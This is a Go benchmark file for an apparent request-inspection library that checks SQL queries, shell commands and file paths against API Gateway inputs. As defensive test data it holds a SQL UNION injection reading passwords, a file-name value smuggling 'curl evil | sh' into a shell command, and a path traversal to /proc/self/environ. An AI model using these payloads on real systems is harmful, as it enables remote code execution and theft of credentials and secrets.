package rules

import "testing"

// benchInputs is a typical API Gateway request's inputs.
func benchInputs(search string) []Field {
	return []Field{
		{Source: SourcePath, Path: "path", Value: "/products"},
		{Source: SourceQuery, Path: "query.search", Value: search},
		{Source: SourceQuery, Path: "query.page", Value: "2"},
		{Source: SourceHeaders, Path: "headers.user-agent", Value: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"},
		{Source: SourceHeaders, Path: "headers.accept", Value: "application/json"},
		{Source: SourceHeaders, Path: "headers.host", Value: "api.example.com"},
		{Source: SourceHeaders, Path: "headers.x-forwarded-for", Value: "203.0.113.9"},
		{Source: SourceCookies, Path: "cookies.session", Value: "c2Vzc2lvbi10b2tlbi0xMjM0NTY3ODkw"},
	}
}

func BenchmarkCheckSQL(b *testing.B) {
	s := sinksFor(b, "block", allSinksBlock)
	b.Run("no-match", func(b *testing.B) {
		in := benchInputs("grinder")
		q := "SELECT name, price FROM products WHERE category = ? AND price < ? ORDER BY name LIMIT 20"
		b.ReportAllocs()
		for b.Loop() {
			s.CheckSQL("sqlite", q, in)
		}
	})
	b.Run("benign-match", func(b *testing.B) {
		in := benchInputs("grinder")
		q := "SELECT name, price FROM products WHERE name LIKE '%grinder%' ORDER BY name"
		b.ReportAllocs()
		for b.Loop() {
			s.CheckSQL("sqlite", q, in)
		}
	})
	b.Run("injection", func(b *testing.B) {
		in := benchInputs("x' UNION SELECT password, 1 FROM users --")
		q := "SELECT name, price FROM products WHERE name LIKE '%x' UNION SELECT password, 1 FROM users --%' ORDER BY name"
		b.ReportAllocs()
		for b.Loop() {
			if !s.CheckSQL("sqlite", q, in).Matched() {
				b.Fatal("no match")
			}
		}
	})
}

func BenchmarkCheckCommand(b *testing.B) {
	s := sinksFor(b, "block", allSinksBlock)
	b.Run("argv", func(b *testing.B) {
		in := benchInputs("photo.png")
		args := []string{"photo.png", "-resize", "50%", "/tmp/out.png"}
		b.ReportAllocs()
		for b.Loop() {
			s.CheckCommand("/usr/bin/convert", args, in)
		}
	})
	b.Run("shell-benign", func(b *testing.B) {
		in := benchInputs("photo.png")
		args := []string{"-c", "convert 'photo.png' -resize 50% /tmp/out.png | gzip > /tmp/out.gz"}
		b.ReportAllocs()
		for b.Loop() {
			s.CheckCommand("/bin/sh", args, in)
		}
	})
	b.Run("shell-injection", func(b *testing.B) {
		in := benchInputs("photo.png; curl evil | sh")
		args := []string{"-c", "convert photo.png; curl evil | sh -resize 50% /tmp/out.png"}
		b.ReportAllocs()
		for b.Loop() {
			if !s.CheckCommand("/bin/sh", args, in).Matched() {
				b.Fatal("no match")
			}
		}
	})
}

func BenchmarkCheckPath(b *testing.B) {
	s := sinksFor(b, "block", allSinksBlock)
	b.Run("benign", func(b *testing.B) {
		in := benchInputs("guide.md")
		p := "/var/task/assets/guide.md"
		b.ReportAllocs()
		for b.Loop() {
			s.CheckPath("", p, p, in)
		}
	})
	b.Run("traversal", func(b *testing.B) {
		in := benchInputs("../../../proc/self/environ")
		p := "/var/task/assets/../../../proc/self/environ"
		b.ReportAllocs()
		for b.Loop() {
			if !s.CheckPath("", p, "", in).Matched() {
				b.Fatal("no match")
			}
		}
	})
}
